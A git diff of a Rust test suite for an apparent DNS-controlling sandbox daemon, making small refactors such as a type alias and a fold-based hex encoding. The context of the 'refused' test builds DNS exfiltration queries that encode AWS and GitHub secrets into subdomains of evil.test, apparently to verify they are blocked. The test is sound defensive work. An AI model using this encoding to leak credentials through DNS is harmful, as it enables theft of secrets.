@@ -14,9 +14,11 @@ use serde_json::Value;
 use crate::daemon::{Counting, POD, World};
 use crate::datapath::{Options, Workload, with};
 
+type Claim = fn() -> Result<()>;
+
 pub(crate) fn cases() -> Vec<Case> {
     let needs = [Need::Bpf, Need::CgroupV2, Need::Python3, Need::Pipelock];
-    let cases: Vec<(&str, fn() -> Result<()>)> = vec![
+    let cases: [(&str, Claim); 6] = [
         ("a_place_tells_the_server_and_the_answer_seems_to_come_from_it", places),
         ("queries_are_answered_by_the_workloads_own_servers_whatever_socket_asks", own_servers),
         ("a_resolver_on_loopback_is_asked_inside_the_namespace", on_loopback),
@@ -224,7 +226,7 @@ fn refused() -> Result<()> {
     let secrets = [Secret::aws().value, Secret::github().value];
     for secret in &secrets {
         let (first, second) = secret.split_at(11);
-        let hex: String = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
+        let hex = secret.bytes().fold(String::new(), |hex, byte| hex + &format!("{byte:02x}"));
         let hex = hex.as_bytes().chunks(60).map(String::from_utf8_lossy).collect::<Vec<_>>().join(".");
         for name in [secret.clone(), format!("{first}.{second}"), hex] {
             let said = rig.says(&format!("print(rcode(udp('{name}.x.evil.test', '203.0.113.53')))"))?;
